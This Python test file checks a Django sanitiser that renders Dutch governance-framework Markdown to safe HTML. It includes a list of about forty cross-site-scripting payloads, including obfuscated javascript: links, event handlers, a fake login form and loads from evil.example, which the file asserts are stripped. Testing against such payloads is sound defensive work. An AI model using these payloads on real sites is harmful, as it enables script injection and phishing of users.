import re

import pytest
from django.urls import reverse
from django.utils import translation
from django.utils.safestring import SafeString

from governance.framework_pages import read_page
from governance.framework_release import FOLDERS
from governance.rich_text import clean, plain, render


@pytest.fixture(autouse=True)
def in_english():
    with translation.override("en"):
        yield


NASTY = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.gif'>",
    "![](https://evil.example/pixel.gif)",
    "![x](javascript:alert(1))",
    '<svg onload="alert(1)"><script>alert(1)</script></svg>',
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe src='https://evil.example'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<p style='position:fixed;inset:0;background:url(javascript:alert(1))'>x</p>",
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<a href='#' onclick=\"showModal(event, 'x')\">x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x][y]\n\n[y]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "[x](https://voorbeeld.nl){ onclick=alert(1) }",
    "[x](https://voorbeeld.nl){ href=javascript:alert(1) }",
    "# Kop { onmouseover=alert(1) style=color:red }",
    '!!! tip "<script>alert(1)</script>"\n    x',
    '??? expander "<img src=x onerror=alert(1)>"\n    x',
    "*[AVG]: <script>alert(1)</script>\" onmouseover=\"alert(1)\n\nAVG",
    "tekst[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]  # fmt: skip


@pytest.mark.parametrize("text", NASTY)
def test_nothing_that_runs_or_loads_survives(text):
    shown = render(text)

    tags = re.findall(r"<([a-z0-9]+)((?:\s+[\w:-]+=\"[^\"]*\")*)\s*>", shown)
    attributes = {name: value for _tag, rest in tags for name, value in re.findall(r"([\w:-]+)=\"([^\"]*)\"", rest)}
    assert not {tag for tag, _rest in tags} & {
        "script", "img", "svg", "math", "style", "iframe", "object", "embed", "form", "input", "button", "link", "meta",
        "base",
    }  # fmt: skip
    assert not [name for name in attributes if name.startswith("on") or name in ("style", "src", "action")]
    assert re.fullmatch(r"(https?://|mailto:|#|/).*|", attributes.get("href", ""))
    assert re.sub(r"<[a-z0-9]+(?:\s+[\w:-]+=\"[^\"]*\")*\s*>|</[a-z0-9]+>", "", shown).count("<") == 0


def test_an_id_cannot_imitate_a_part_of_the_page():
    assert clean('<h2 id="main">Kop</h2><h2 id="text-kop">Kop</h2>') == '<h2>Kop</h2><h2 id="text-kop">Kop</h2>'


def test_a_class_that_the_catalogue_does_not_use_is_left_out():
    shown = clean('<div class="admonition tip alert-danger">x</div><p class="error">x</p>')

    assert shown == '<div class="admonition tip">x</div><p class="">x</p>'


@pytest.mark.parametrize(
    ("target", "leads_outward"),
    [
        ("https://voorbeeld.nl", True),
        ("http://voorbeeld.nl/pad?x=1#y", True),
        ("//voorbeeld.nl", True),
        (r"/\voorbeeld.nl", True),
        (r"\\voorbeeld.nl", True),
        ("/algoritmes/3/", False),
        ("/?zoek=x", False),
        ("#text-kop", False),
    ],
)
def test_only_links_that_lead_outward_say_so(target, leads_outward):
    shown = clean(f'<a href="{target}">x</a>')

    rel = ' rel="noopener noreferrer nofollow"' if leads_outward else ""
    assert shown == f'<a href="{target}"{rel}>x</a>'


def test_the_result_is_safe_and_an_empty_text_is_empty():
    assert render(" \n ") == ""
    assert isinstance(render("x"), SafeString)


def test_an_admonition_has_a_title_and_a_kind():
    shown = render('!!! tip "Let op"\n\n    Eerst *dit*.\n\n    Dan dat.\n\nDaarna.')

    assert shown == (
        '<div class="admonition tip">\n<p class="admonition-title">Let op</p>\n<p>Eerst <em>dit</em>.</p>\n'
        "<p>Dan dat.</p>\n</div>\n<p>Daarna.</p>"
    )


def test_text_that_folds_becomes_details():
    shown = render('Vooraf.\n??? expander "Meer (uitleg)"\n\n    Een\n\n    - twee\n    - drie\n\nNa.')

    assert shown == (
        "<p>Vooraf.</p>\n<details>\n<summary>Meer (uitleg)</summary>\n<p>Een</p>\n<ul>\n<li>twee</li>\n<li>drie</li>\n"
        "</ul>\n</details>\n<p>Na.</p>"
    )


def test_text_that_folds_may_be_open_and_without_title():
    assert render("???+ note\n    Een").startswith('<details open="">\n<summary>Details</summary>')


def test_an_admonition_may_stand_inside_text_that_folds():
    shown = render('??? expander "Buiten"\n    !!! note "Binnen"\n        Tekst')

    assert re.sub(r"\s*\n\s*", "", shown) == (
        '<details><summary>Buiten</summary><div class="admonition note"><p class="admonition-title">Binnen</p>'
        "<p>Tekst</p></div></details>"
    )


def test_tables_keep_their_alignment_and_scroll_where_the_keyboard_reaches_them():
    shown = render("| a | b |\n|--:|---|\n| 1 | 2 |")

    assert re.sub(r"\s*\n\s*", "", shown) == (
        '<div class="table-scroll" tabindex="0" role="group" aria-label="Table">'
        '<table><thead><tr><th align="right">a</th><th>b</th></tr></thead>'
        '<tbody><tr><td align="right">1</td><td>2</td></tr></tbody></table></div>'
    )


def test_footnotes_of_two_texts_on_one_page_stay_apart():
    one, other = render("Een[^1].\n\n[^1]: Bron een."), render("Twee[^1].\n\n[^1]: Bron twee.")

    ids = re.findall(r' id="([^"]*)"', one + other)
    assert len(ids) == len(set(ids)) == 4
    assert set(re.findall(r' href="#([^"]*)"', one + other)) == set(ids)
    assert 'title="Back to the text"' in one


def test_attributes_in_braces_do_not_show():
    shown = render(
        "## Bronnen { data-search-exclude }\n\n[Direct](https://voorbeeld.nl){ .button .md-button--secondary }"
    )

    assert shown == (
        '<h2 id="text-bronnen">Bronnen</h2>\n<p><a class="button" href="https://voorbeeld.nl" '
        'rel="noopener noreferrer nofollow">Direct</a></p>'
    )


def test_icons_of_the_framework_s_site_do_not_show():
    assert render(":material-arrow-right: Bepaal dit") == "<p>Bepaal dit</p>"


def test_terms_are_explained_where_they_occur():
    shown = render("De AVG en een AI-systeem.", terms={"AVG": 'Een "wet"', "AI": "x", "AI-systeem": "Een systeem"})

    assert shown == (
        '<p>De <abbr title="Een &quot;wet&quot;">AVG</abbr> en een <abbr title="Een systeem">AI-systeem</abbr>.</p>'
    )


@pytest.mark.parametrize(
    ("text", "levels"),
    [
        ("# Een\n\n## Twee\n\n### Drie", [2, 3, 4]),
        ("### Een\n\n#### Twee", [2, 3]),
        ("## Een\n\n###### Diep", [2, 6]),
        ("# 1\n\n## 2\n\n### 3\n\n#### 4\n\n##### 5\n\n###### 6", [2, 3, 4, 5, 6, 6]),
    ],
)
def test_headings_start_below_that_of_the_page(text, levels):
    assert [int(level) for level in re.findall(r"<h(\d)", render(text))] == levels


def test_headings_may_start_lower():
    assert render("# Kop", top=3) == '<h3 id="text-kop">Kop</h3>'


@pytest.mark.parametrize(
    ("target", "route", "slug", "anchor"),
    [
        ("/voldoen-aan-wetten-en-regels/vereisten/aia-00-verboden-AI-praktijken.md", "requirement",
         "aia-00-verboden-ai-praktijken", ""),
        ("../maatregelen/1-pba-03-Onderbouwen-gebruik.md", "measure", "1-pba-03-onderbouwen-gebruik", ""),
        ("../hulpmiddelen/IAMA.md", "tool", "iama", ""),
        ("../../onderwerpen/data.md#herken-bias", "topic", "data", "#text-herken-bias"),
        ("/levenscyclus/ontwerp.md", "phase", "ontwerp", ""),
        ("../rollen/jurist.md", "discipline", "jurist", ""),
    ],
)  # fmt: skip
def test_a_link_to_an_item_of_the_framework_leads_to_our_page_of_it(target, route, slug, anchor):
    assert render(f"[x]({target})") == f'<p><a href="{reverse(route, args=[slug])}{anchor}">x</a></p>'


@pytest.mark.parametrize(
    ("target", "address"),
    [
        ("/ai-verordening/index.md", "ai-verordening/"),
        ("/levenscyclus/over-de-levenscyclus.md", "levenscyclus/over-de-levenscyclus/"),
        ("../vereisten/index.md", "vereisten/"),
        ("/soorten-algoritmes-en-ai/definities.md#ai", "soorten-algoritmes-en-ai/definities/#ai"),
        ("/assets/documents/Kader.pdf", "assets/documents/Kader.pdf"),
    ],
)
def test_a_link_to_another_page_of_the_framework_leads_to_its_own_site(target, address):
    assert f'href="https://minbzk.github.io/Algoritmekader/{address}"' in render(f"[x]({target})")


@pytest.mark.parametrize("target", ["zomaar.md", "ergens/anders", "../vereisten/%3F%3F%3F.md"])
def test_a_link_that_leads_nowhere_shows_its_words(target):
    assert render(f"[x]({target})") == "<p><span>x</span></p>"


@pytest.mark.parametrize("link", ["[*de* bronnen](#bronnen)", '<a href="#" onclick="toon()"><em>de</em> bronnen</a>'])
def test_a_link_to_a_part_that_is_not_in_the_text_shows_its_words(link):
    assert render(f"Bekijk {link}.") == "<p>Bekijk <em>de</em> bronnen.</p>"


def test_a_link_to_a_part_of_the_text_leads_there():
    shown = render("Zie [stap 1](#stap-1) en [hier](#hier).\n\n# Stap 1\n\n<a id='hier'></a>Daar.")

    assert '<a href="#text-stap-1">stap 1</a>' in shown
    assert 'href="#text-hier"' not in shown


def test_a_link_to_a_page_of_ours_stays_as_it_is():
    assert render("[x](/algoritmes/3/)") == '<p><a href="/algoritmes/3/">x</a></p>'


def test_somebody_else_may_say_where_a_link_leads():
    asked = []

    text = "# Kop\n\n[x](../a/b.md) [y](https://voorbeeld.nl) [z](#kop)"

    shown = render(text, link_for=lambda path: asked.append(path))

    assert asked == ["../a/b.md"]
    assert "<span>x</span>" in shown
    assert '<a href="#text-kop">z</a>' in shown


def test_a_mail_address_is_a_link():
    assert 'href="mailto:hallo@voorbeeld.nl"' in render("<hallo@voorbeeld.nl>")


def test_a_picture_becomes_its_description():
    shown = render("![Een <lang=en>risk</lang=en> model](images/model.png)")

    assert shown == '<p><span class="picture">Picture: Een risk model</span></p>'


def test_plain_text_has_the_words_only():
    text = '# Kop & staart\n\n!!! tip "Let op"\n    Lees *dit*: [hier](https://voorbeeld.nl), en dat.\n\n- a\n- b < c'

    assert plain(text) == "Kop & staart Let op Lees dit: hier, en dat. a b < c"
    assert plain(text, 20) == "Kop & staart Let op…"


@pytest.mark.data
def test_no_markup_or_dead_link_shows_in_the_pages_of_the_framework(shared_data):
    pages = [
        (folder, file)
        for folder in FOLDERS.values()
        for file in sorted((shared_data / "algoritmekader" / "2026-06" / folder).glob("*.md"))
        if file.stem not in ("index", "over-de-levenscyclus")
    ]
    left = {}

    for folder, file in pages:
        shown = render(read_page(f"{folder}/{file.name}", file.read_text(encoding="utf-8")).body)
        words = re.sub(r"<[^>]*>", "", shown)
        left[file.name] = re.findall(r"\?\?\?|!!!|\]\([./#h]|\{ ?[.:]|data-search|\[\^|:material|<!--", words)
        left[file.name] += [a for a in re.findall(r"<a\b[^>]*>", shown) if " href=" not in a and " id=" not in a]
        left[file.name] += [at for at in re.findall(r' href="#([^"]*)"', shown) if f' id="{at}"' not in shown]

    assert len(left) > 200
    assert {name: marks for name, marks in left.items() if marks} == {}
